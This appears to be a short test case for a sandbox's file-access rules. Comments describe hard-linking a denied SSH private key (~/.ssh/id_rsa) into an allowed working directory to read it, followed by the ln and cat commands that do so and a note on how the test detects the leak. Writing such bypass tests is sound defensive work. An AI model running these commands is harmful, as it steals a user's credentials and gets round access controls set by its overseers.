# attack: make a hard link to the denied ~/.ssh/id_rsa inside the workdir,
# where reads are allowed, and read it there.
# detected: the test looks for the secret's contents in the workdir's files.
ln "$HOME/.ssh/id_rsa" stolen
cat stolen > loot
